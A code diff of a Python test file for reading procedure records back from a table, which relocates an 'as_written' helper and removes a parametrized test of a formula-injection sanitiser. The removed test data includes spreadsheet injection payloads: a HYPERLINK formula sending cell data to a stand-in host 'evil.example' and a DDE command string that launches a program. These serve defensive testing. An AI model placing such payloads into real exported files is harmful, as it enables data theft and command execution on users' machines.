@@ -12,6 +12,7 @@ from plugins.discovery import procedures
 from plugins.discovery.addresses import public
 from plugins.domain import Procedure
 from plugins.run import load_kinds
+from plugins.text.cells import as_written
 
 PROPERTIES = {
     name: json.dumps(field) for name, field in Procedure.model_json_schema()["properties"].items()
@@ -48,7 +49,7 @@ def test_the_table_read_back_equals_the_records(dump):
     read = [
         Procedure.model_validate(
             {
-                name: _value(name, procedures.as_written(cell))
+                name: _value(name, as_written(cell))
                 for name, cell in row.items()
                 if cell and name not in ("lang", "url")
             }
@@ -56,37 +57,6 @@ def test_the_table_read_back_equals_the_records(dump):
         for row in rows
     ]
     assert read == [page.record for page in pages(portal)]
-
-
-@pytest.mark.parametrize(
-    "cell",
-    [
-        '=HYPERLINK("http://evil.example/?"&A1)',
-        "+1+cmd|' /C calc'!A0",
-        "-2+3",
-        "@SUM(A1)",
-        "\t=1",
-        "\r=1",
-        "＝1",
-        "'=1",
-        "''+1",
-        "a;=1+1",
-        "a\n=1+1",
-        "a\r\n-1",
-        "a\t@x",
-        ";=1",
-        "'",
-        "''",
-        "a=b",
-        "60/2014/QH13",
-        "- Tờ khai\n- Căn cước",
-    ],
-)
-def test_no_cell_is_a_formula_and_each_can_be_had_as_it_was_written(cell):
-    written = procedures.harmless(cell)
-    assert not re.search(r"(?:^|[;\t\r\n])[=+\-@＝＋－＠]", written)
-    assert written[:1] not in "\t\r" or not cell
-    assert procedures.as_written(written) == cell
 
 
 def _value(name, cell):
